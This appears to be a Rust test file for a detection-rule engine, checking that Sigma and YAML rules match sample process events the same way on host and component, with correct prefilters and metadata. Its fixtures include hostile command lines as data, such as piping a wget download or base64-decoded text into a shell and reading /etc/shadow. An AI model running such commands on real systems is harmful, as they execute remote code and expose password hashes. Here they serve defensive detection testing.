//! The matcher natively, against dac-detect run as the host runs it: the
//! same matches on the same events, and a prefilter that admits every event
//! the rule fires on. The SDK's native `Event` answers lookups with the
//! host's own code, so what holds here holds inside the component.

use super::*;
use std::path::{Path, PathBuf};

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap().to_owned()
}

fn payload(path: &Path) -> Payload {
    Payload {
        file: path.file_name().unwrap().to_string_lossy().into_owned(),
        text: std::fs::read_to_string(path).unwrap(),
        mapping: None,
    }
}

fn rule_files() -> Vec<PathBuf> {
    let mut files: Vec<PathBuf> = Vec::new();
    for dir in ["example-rules/sigma/linux-process-creation", "example-rules/yaml"] {
        for entry in std::fs::read_dir(repo().join(dir)).unwrap() {
            let path = entry.unwrap().path();
            if dac_detect::is_rule_file(&path) {
                files.push(path);
            }
        }
    }
    files.sort();
    files
}

fn event_lines() -> Vec<String> {
    let mut lines = Vec::new();
    for file in ["detect/tests/fixtures/sigma.ndjson", "example-rules/data/sample-events.ndjson"] {
        let text = std::fs::read_to_string(repo().join(file)).unwrap();
        lines.extend(text.lines().filter(|l| !l.trim().is_empty()).map(str::to_owned));
    }
    // Nested documents, arrays, Extended JSON, and what folds to ASCII.
    lines.extend(
        [
            r#"{"command_line":"/bin/\u212AILL -9 1","path":"/usr/bin/kill"}"#,
            r#"{"command_line":"sh -c 'echo x | base64 -d | sh'","argv":["sh","-c",{"k":[1,{"$date":{"$numberLong":"5"}}]}],"pid":{"$numberLong":"42"},"_id":{"$oid":"650b89dfcf00592980c13266"}}"#,
            r#"{"process":{"parent":{"path":"/usr/sbin/apache2"}},"command_line":"wget http://x | bash","f":1.5,"n":null,"b":true}"#,
            r#"{"command_line":"CAT /ETC/SHADOW","parent_command_line":{"$binary":{"base64":"aGk=","subType":"00"}}}"#,
        ]
        .map(str::to_owned),
    );
    lines
}

/// Every SigmaHQ rule and both seed rules: the component's findings are
/// the host's match, field for field, on every fixture event.
#[test]
fn matches_exactly_like_the_host_side_rule_set() {
    let lines = event_lines();
    let mut fired = 0;
    for file in rule_files() {
        let payload = payload(&file);
        let matcher = Matcher::new(&payload).unwrap_or_else(|err| panic!("{err}"));
        let host = RuleSet::compile(vec![matcher.rule().clone()]).unwrap();
        for line in &lines {
            let (event, _) = dac_detect::Event::from_json_slice(line.as_bytes()).unwrap();
            let mut expected = Vec::new();
            host.matches_without_prefilter(&event, &mut expected);
            let got = matcher.evaluate(&Event::from_json(line));
            assert_eq!(got.len(), expected.len(), "{}: {line}", file.display());
            for (finding, m) in got.iter().zip(&expected) {
                let fields: Vec<(&str, &str)> =
                    finding.matched.iter().map(|f| (f.path.as_str(), f.value.as_str())).collect();
                let want: Vec<(&str, &str)> = m.matched.iter().map(|f| (f.path.as_str(), f.value.as_str())).collect();
                assert_eq!(fields, want, "{}: {line}", file.display());
                fired += 1;
            }
        }
    }
    assert!(fired > 100, "the fixtures exercise the rules: {fired} matches");
}

/// What the host's raw scan does with a component's declaration.
fn admitted(prefilter: &Prefilter, raw: &str) -> bool {
    prefilter.literals.iter().any(|literal| {
        if prefilter.ascii_case_insensitive {
            raw.to_ascii_lowercase().contains(&literal.to_ascii_lowercase())
        } else {
            raw.contains(literal.as_str())
        }
    })
}

#[test]
fn the_declared_prefilter_admits_every_event_the_rule_fires_on() {
    let lines = event_lines();
    let mut declared = 0;
    for file in rule_files() {
        let matcher = Matcher::new(&payload(&file)).unwrap();
        let Some(prefilter) = &matcher.metadata().prefilter else { continue };
        declared += 1;
        assert!(!prefilter.fields.is_empty() && prefilter.literals.iter().all(|l| !l.is_empty()));
        for line in &lines {
            if line.contains('\\') {
                continue; // the host distrusts escaped documents and parses them
            }
            if !matcher.evaluate(&Event::from_json(line)).is_empty() {
                assert!(admitted(prefilter, line), "{}: {prefilter:?} drops {line}", file.display());
            }
        }
    }
    assert!(declared > 100, "most rules declare a prefilter: {declared}");
}

#[test]
fn metadata_is_the_rules() {
    let matcher = Matcher::new(&payload(&repo().join("example-rules/yaml/shadow.yaml"))).unwrap();
    let m = matcher.metadata();
    assert_eq!(
        (m.name.as_str(), m.uuid.as_str(), m.version.as_str(), m.severity),
        ("Suspicious /etc/shadow Usage", "5e3566a3-9f19-4ac7-8710-ec5fb09260ed", "1.0.0", Severity::High)
    );
    assert_eq!(m.tags, ["attack.credential-access", "attack.t1003.008"]);
    let p = m.prefilter.as_ref().unwrap();
    assert_eq!(
        (p.fields.as_slice(), p.literals.as_slice(), p.ascii_case_insensitive),
        (&["command_line".to_string()][..], &["/etc/shadow".to_string()][..], false)
    );
}

#[test]
fn payloads_round_trip_and_errors_are_located() {
    assert!(matches!(Matcher::from_slot(b""), Err(MatcherError::Empty)));
    assert!(matches!(Matcher::from_slot(b"{"), Err(MatcherError::Payload(_))));
    let broken = Payload {
        file: "x.yaml".into(),
        text: "name: S\nuuid: u\ndetection_logic:\n  command_line: 3\n".into(),
        mapping: None,
    };
    let err = Matcher::from_slot(&serde_json::to_vec(&broken).unwrap()).unwrap_err().to_string();
    assert!(err.starts_with("x.yaml:4: detection_logic.command_line"), "{err}");
    let mapped = Payload {
        file: "w.yml".into(),
        text: "title: W\nid: w-1\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    CommandLine|contains: whoami\n  condition: sel\n".into(),
        mapping: Some(MappingSource { file: "edr.toml".into(), toml: "name = \"edr\"\n[[logsource]]\nproduct = \"linux\"\ncategory = \"process_creation\"\n[fields]\nCommandLine = \"process.cmd\"\n".into() }),
    };
    let matcher = Matcher::from_slot(&serde_json::to_vec(&mapped).unwrap()).unwrap();
    let found = matcher.evaluate(&Event::from_json(r#"{"process":{"cmd":"WHOAMI /all"}}"#));
    assert_eq!(found[0].matched[0].path, "process.cmd");
    assert!(matcher.evaluate(&Event::from_json(r#"{"command_line":"whoami"}"#)).is_empty());
}
